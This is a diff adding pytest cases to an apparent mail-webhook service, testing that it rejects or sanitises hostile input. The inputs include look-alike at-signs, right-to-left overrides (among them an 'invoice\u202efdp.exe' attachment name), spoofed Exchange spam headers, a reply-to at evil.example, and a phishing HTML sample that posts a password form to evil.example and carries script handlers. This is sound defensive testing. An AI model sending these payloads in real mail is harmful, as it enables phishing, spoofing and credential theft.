@@ -86,6 +86,84 @@ HOSTILE: dict[str, tuple[Any, int, str, str | None]] = {
         "invalid_payload",
         "replyTo[0].name",
     ),
+    "a fullwidth at-sign in a display name": (
+        {**BASE, "to": [{"address": "a@contoso.com", "name": "ceo\uff20contoso.com"}]},
+        400,
+        "invalid_payload",
+        "to[0].name",
+    ),
+    "a small at-sign in a display name": (
+        {**BASE, "cc": [{"address": "a@contoso.com", "name": "IT\ufe6bcontoso"}]},
+        400,
+        "invalid_payload",
+        "cc[0].name",
+    ),
+    "one-dot-leader dots in a display name": (
+        {**BASE, "to": [{"address": "a@contoso.com", "name": "ceo@contoso\u2024com"}]},
+        400,
+        "invalid_payload",
+        "to[0].name",
+    ),
+    "an address spelled with blanks in a display name": (
+        {**BASE, "to": [{"address": "a@contoso.com", "name": "ceo @ contoso . com"}]},
+        400,
+        "invalid_payload",
+        "to[0].name",
+    ),
+    "a right-to-left override in a display name": (
+        {**BASE, "to": [{"address": "a@contoso.com", "name": "Support \u202emoc.osotnoc"}]},
+        400,
+        "invalid_payload",
+        "to[0].name",
+    ),
+    "a right-to-left override in an attachment name": (
+        {**BASE, "attachments": [{"name": "invoice\u202efdp.exe", "content": "x"}]},
+        400,
+        "invalid_payload",
+        "attachments[0].name",
+    ),
+    "2,000 reply-to addresses": (
+        {**BASE, "replyTo": [f"r{i}@contoso.com" for i in range(2000)]},
+        400,
+        "invalid_payload",
+        "replyTo",
+    ),
+    "our own trace header": (
+        {**BASE, "headers": {"X-Mailhook-Source": "github"}},
+        400,
+        "invalid_payload",
+        "headers.X-Mailhook-Source",
+    ),
+    "an Exchange header": (
+        {**BASE, "headers": {"x-ms-exchange-organization-scl": "-1"}},
+        400,
+        "invalid_payload",
+        "headers.x-ms-exchange-organization-scl",
+    ),
+    "Graph form with our own trace header": (
+        {
+            "message": {
+                "subject": "x",
+                "toRecipients": [{"emailAddress": {"address": "ops@contoso.com"}}],
+                "internetMessageHeaders": [{"name": "X-Mailhook-Status", "value": "resolved"}],
+            }
+        },
+        400,
+        "invalid_payload",
+        "message.internetMessageHeaders[0].name",
+    ),
+    "100,000 recipients": ({**BASE, "to": [f"u{i}@contoso.com" for i in range(100_000)]}, 400, "invalid_payload", "to"),
+    "Graph form with 100,000 recipients": (
+        {
+            "message": {
+                "subject": "x",
+                "toRecipients": [{"emailAddress": {"address": f"u{i}@contoso.com"}} for i in range(100_000)],
+            }
+        },
+        400,
+        "invalid_payload",
+        "message.toRecipients",
+    ),
     "a lone UTF-16 surrogate": (b'{"to": "ops@contoso.com", "subject": "x\\ud800"}', 400, "invalid_json", None),
     "a 10 MB body": (b"{" + b" " * TEN_MB + b"}", 413, "body_too_large", None),
 }
@@ -183,3 +261,67 @@ def test_a_far_future_time_is_mailed_without_it_not_a_500(
     )
     assert response.status_code == 202, response.get_body()[:500]
     assert len(graph.sent) == 1  # the genuine alerts of the group are not held back by the bad one
+
+
+# --- Policy beyond a single field --------------------------------------------------------------------
+
+
+def test_reply_to_obeys_the_recipient_domain_allow_list(mi_runtime: RuntimeFactory, graph: FakeGraph) -> None:
+    runtime = mi_runtime(MAIL_ALLOWED_RECIPIENT_DOMAINS="contoso.com")
+    for body, field in (
+        ({**BASE, "replyTo": "confirm@evil.example"}, "replyTo"),
+        (
+            {
+                "message": {
+                    "subject": "x",
+                    "toRecipients": [{"emailAddress": {"address": "ops@contoso.com"}}],
+                    "replyTo": [{"emailAddress": {"address": "confirm@evil.example"}}],
+                }
+            },
+            "message.replyTo",
+        ),
+    ):
+        response = handle_mail(mail_request(body), runtime)
+        assert response.status_code == 403, response.get_body()
+        document = response_json(response)
+        assert (document["code"], [e["field"] for e in document["errors"]]) == ("recipient_not_allowed", [field])
+    assert handle_mail(mail_request({**BASE, "replyTo": "team@contoso.com"}), runtime).status_code == 202
+    assert len(graph.sent) == 1
+
+
+PHISHING_HTML = (
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
+    '<p onclick="steal()" onmouseover="steal()">Your password expires</p>'
+    '<a href="javascript:steal()">keep it</a> <a href="data:text/html;base64,PHA+">or this</a>'
+    '<iframe srcdoc="&lt;form action=https://evil.example&gt;"></iframe>'
+    '<form action="https://evil.example/login"><input name="password"></form>'
+    '<img src="https://contoso.com/logo.png" onerror="steal()">'
+    '<a href="https://contoso.com/help" style="color:red;position:fixed">help</a>'
+)
+
+
+@pytest.mark.parametrize("form", ["simple", "graph"])
+def test_caller_html_is_sanitized_in_both_forms(mi_runtime: RuntimeFactory, graph: FakeGraph, form: str) -> None:
+    body: dict[str, Any] = (
+        {**BASE, "html": PHISHING_HTML}
+        if form == "simple"
+        else {
+            "message": {
+                "subject": "x",
+                "body": {"contentType": "HTML", "content": PHISHING_HTML},
+                "toRecipients": [{"emailAddress": {"address": "ops@contoso.com"}}],
+            }
+        }
+    )
+    assert handle_mail(mail_request(body), mi_runtime()).status_code == 202
+    sent = graph.sent[0].json["message"]["body"]["content"].lower()
+    for dropped in ("<meta", "refresh", "onclick", "onmouseover", "onerror", "javascript:", "data:", "<iframe",
+                    "srcdoc", "<form", "<input", "position"):  # fmt: skip
+        assert dropped not in sent, dropped
+    # What a report mail is made of stays.
+    for kept in (
+        "<p>your password expires</p>",
+        'src="https://contoso.com/logo.png"',
+        'href="https://contoso.com/help"',
+    ):
+        assert kept in sent, kept
